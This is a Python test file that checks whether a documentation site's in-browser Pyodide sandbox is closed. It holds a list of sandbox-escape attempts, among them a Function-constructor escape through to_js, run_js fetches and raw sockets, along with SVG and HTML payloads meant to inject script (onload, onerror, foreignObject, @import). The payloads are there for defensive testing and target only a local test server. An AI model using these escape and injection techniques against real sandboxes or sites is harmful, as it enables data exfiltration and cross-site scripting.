"""The worker is closed: nothing that a reader's code does reaches a network, a page or a store."""

SURFACES = "gallery/1_surfaces/plot_three_surfaces.html"
# Each way out is tried, and says why it failed. None may print that it is out.
ATTEMPTS = """
import socket, urllib.request

def urllib_way():
    urllib.request.urlopen(ADDRESS, timeout=5).read()

def socket_way():
    connection = socket.create_connection((HOST, PORT), timeout=5)
    connection.sendall(b"GET /secret HTTP/1.0\\r\\n\\r\\n")
    assert connection.recv(10)

def js_way():
    import js
    js.fetch(ADDRESS)

def pyodide_js_way():
    import pyodide_js
    pyodide_js.loadPackage(ADDRESS)

def http_way():
    from pyodide.http import open_url
    open_url(ADDRESS)

def run_js_way():
    from pyodide.code import run_js
    run_js(f"fetch('{ADDRESS}')")

def constructor_way():
    from pyodide.ffi import to_js
    to_js([1]).constructor.constructor(f"return fetch('{ADDRESS}')")()

def import_way():
    from pyodide.ffi import to_js
    to_js(print).constructor(f"return import('{ADDRESS}')")()

def asyncio_way():
    import asyncio
    asyncio.run(asyncio.open_connection(HOST, PORT))

def core_way():
    import _pyodide_core
    [getattr(_pyodide_core, name) for name in ("fetch", "js")]

for name, way in list(globals().items()):
    if name.endswith("_way"):
        try:
            way()
        except BaseException as error:
            print(name, "failed:", type(error).__name__, error)
        else:
            print(name, "is out")
"""
SVG = """
from run.in_page.canvas import stage
import base64
svg = f'''<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="fetch('{ADDRESS}')">
<script>fetch("{ADDRESS}")</script><image href="{ADDRESS}" width="9" height="9"/>
<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="{ADDRESS}"/>
</foreignObject><style>@import "{ADDRESS}";</style></svg>'''
source = "data:image/svg+xml;base64," + base64.b64encode(svg.encode()).decode()
stage.send("figure", {"source": source, "words": "<b onclick=x>", "width": 40, "height": 40})
stage.send("figure", {"source": ADDRESS, "words": "elsewhere", "width": 40, "height": 40})
print("<img src=x onerror=fetch(ADDRESS)>")
"""


def addresses(other):
    port = other.server_port
    return f"ADDRESS, HOST, PORT = 'http://127.0.0.1:{port}/secret', '127.0.0.1', {port}\n"


def test_python_reaches_no_network(opened, new_host, host):
    other = new_host()
    script = opened(SURFACES)
    script.await_status("/ready/")
    before = len(host.asked)
    # Also the site's own host is not reached.
    for target in (other, host):
        script.run(addresses(target) + ATTEMPTS)
        told = script.printed().splitlines()
        assert len(told) >= 10
        assert [line for line in told if "failed:" not in line] == []
    assert [path for path in host.asked[before:] if "secret" in path] == []
    assert other.asked == []


def test_a_figure_is_a_picture_and_a_text_is_text(opened, new_host):
    other = new_host()
    script = opened(SURFACES)
    assert script.run(addresses(other) + SVG).startswith("Done")
    pictures = script.output.locator("img.run-figure")
    pictures.first.evaluate("(image) => image.decode().catch(() => {})")
    pictures.nth(1).evaluate(
        "(image) => image.complete || new Promise((r) => { image.onerror = r; })"
    )
    assert pictures.first.get_attribute("alt") == "<b onclick=x>"
    assert script.output.locator("b, script, svg").count() == 0
    assert script.printed() == "<img src=x onerror=fetch(ADDRESS)>\n"
    assert other.asked == []


def test_the_policy_stands_in_every_page(runnable):
    pages = [path for path in runnable.rglob("*.html") if "_static" not in path.parts]
    assert len(pages) > 80
    for page in pages:
        text = page.read_text(encoding="utf-8")
        head = text.partition("</head>")[0]
        assert "Content-Security-Policy\" content=\"default-src 'self';" in head
        assert ("wasm-unsafe-eval" in head) is ("data-run=" in text)
        assert "'unsafe-eval'" not in head


def test_code_does_not_come_from_the_address(new_context, host):
    page = new_context().new_page()
    page.goto(host.url + SURFACES + "?code=print(1)#edit=3&code=print(1)")
    page.wait_for_function("() => document.querySelector('script[src*=scripts]')")
    page.goto(host.url + SURFACES + "?code=print(1)#edit=3")
    page.locator(".run-panel textarea").wait_for()
    assert "print(1)" not in page.locator(".run-panel textarea").input_value()
    assert page.locator(".run-status").inner_text() != ""
